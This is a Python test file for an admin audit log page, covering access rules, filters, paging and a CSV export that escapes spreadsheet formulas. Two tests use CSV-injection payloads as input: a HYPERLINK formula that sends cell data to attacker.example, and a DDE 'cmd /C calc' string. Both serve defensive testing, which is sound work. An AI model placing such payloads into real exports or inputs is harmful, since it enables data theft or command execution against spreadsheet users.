"""The administrators' audit log page: who may see it, its filters and pages, and the CSV
export, which escapes formulas and is itself audited."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from sqlmodel import Session, select

from mlat.models import AuditEntry, Role
from mlat.services import audit
from tests.audit_trail import trail
from tests.conftest import Client, LoginAs, MakeRequest, MakeUser

# The administrators' log page --------------------------------------------------------------


@pytest.mark.parametrize("url", ["/admin/audit", "/admin/audit.csv"])
@pytest.mark.parametrize("role", [Role.officer, Role.reviewer, Role.prosecutor])
def test_only_administrators_see_the_audit_log(
    client: Client, login_as: LoginAs, url: str, role: Role, db: Session
) -> None:
    login_as(role)
    response = client.get(url)
    assert response.status_code == 403
    assert "You do not have permission to do this." in response.text
    assert "Audit log" not in client.get("/").text  # not offered in the menu
    assert "audit.export" not in [row[0] for row in trail(db)]


def test_admin_filters_the_log(
    client: Client,
    login_as: LoginAs,
    make_user: MakeUser,
    make_request: MakeRequest,
    db: Session,
) -> None:
    officer = make_user(Role.officer)
    request = make_request(officer, title="Ransomware at a clinic")
    other = make_request(officer, title="Investment fraud")
    audit.record(db, action="request.view", user=officer, object_type="request",
                 object_id=other.id, at=dt.datetime(2026, 1, 10, 12, 0, tzinfo=dt.UTC))  # fmt: skip
    db.commit()
    client.login(officer.email, "a wrong password, twice")
    admin = login_as(Role.admin)

    page = client.get("/admin/audit")
    assert page.status_code == 200
    assert "Audit log" in client.get("/").text  # the menu offers it
    assert page.text.index("login") < page.text.index("request.create")  # newest first
    assert officer.email in page.text and admin.email in page.text

    def rows(**args: str) -> str:
        response = client.get("/admin/audit", query_string=args)
        assert response.status_code == 200
        return response.text.split("<tbody>")[1] if "<tbody>" in response.text else ""

    by_user = rows(user=officer.email.upper())
    assert "request.create" in by_user and admin.email not in by_user
    by_action = rows(action="login")
    assert "login" in by_action and "request.create" not in by_action
    assert by_action.count("failure") == 1
    by_object = rows(object_type="request", object_id=str(request.id))
    assert by_object.count("<tr>") == 1 and "request.create" in by_object
    by_date = rows(date_from="2026-01-10", date_to="2026-01-10")
    assert by_date.count("<tr>") == 1 and f"request {other.id}" in by_date
    assert (
        "No entry matches these filters."
        in client.get(
            "/admin/audit", query_string={"date_from": "2025-01-01", "date_to": "2025-01-02"}
        ).text
    )


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ({"user": "nobody@example.org"}, "No user has this e-mail address."),
        ({"user": "not an address"}, "Enter an e-mail address."),
        ({"date_from": "10/01/2026"}, "Not a valid date value."),
        ({"date_from": "2026-02-01", "date_to": "2026-01-01"}, "The end date is before"),
    ],
    ids=["unknown-user", "bad-email", "bad-date", "dates-reversed"],
)
def test_filters_that_do_not_fit_are_explained(
    client: Client, login_as: LoginAs, args: dict[str, str], message: str
) -> None:
    login_as(Role.admin)
    for url in ("/admin/audit", "/admin/audit.csv"):
        response = client.get(url, query_string=args)
        assert response.status_code == 400
        assert message in response.text
        assert "There is a problem" in response.text


def test_log_pages_newest_first(client: Client, login_as: LoginAs, db: Session) -> None:
    login_as(Role.admin)
    for n in range(120):
        audit.record(db, action="request.view", object_type="request", object_id=1000 + n)
    db.commit()
    first = client.get("/admin/audit", query_string={"action": "request.view"})
    assert "request 1119" in first.text and "request 1020" in first.text
    assert "request 1019" not in first.text
    older = first.text.split('rel="next"')[0].rsplit('href="', 1)[1].split('"')[0]
    assert "before_seq=" in older and "action=request.view" in older
    second = client.get(older.replace("&amp;", "&"))
    assert "request 1019" in second.text and "request 1000" in second.text
    assert "request 1020" not in second.text
    assert 'rel="next"' not in second.text
    assert "Newest entries" in second.text


def test_export_is_csv_escapes_formulas_and_is_itself_audited(
    client: Client, login_as: LoginAs, db: Session
) -> None:
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    client.login(formula, "whatever password")
    admin = login_as(Role.admin)

    response = client.get("/admin/audit.csv", query_string={"action": "login"})
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="audit-')
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["action"], r["outcome"]) for r in rows] == [
        ("login", "success"),
        ("login", "failure"),
    ]
    assert rows[1]["object_id"].startswith("'=")  # shown as text, never run
    assert rows[0]["user_id"] == str(admin.id)

    [export] = [e for e in db.exec(select(AuditEntry)) if e.action == "audit.export"]
    assert (export.user_id, export.object_type) == (admin.id, "audit")
    assert "2 entries" in export.reason and "action=login" in export.reason


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(start: str) -> None:
    entry = AuditEntry(seq=1, at=dt.datetime(2026, 3, 1, tzinfo=dt.UTC), action="login",
                       object_type="email", object_id=f"{start}cmd|' /C calc'!A0",
                       prev_hash=audit.GENESIS, hash="")  # fmt: skip
    [row] = list(csv.DictReader(io.StringIO(audit.to_csv([entry]))))
    assert row["object_id"] == f"'{start}cmd|' /C calc'!A0"
    assert row["action"] == "login"
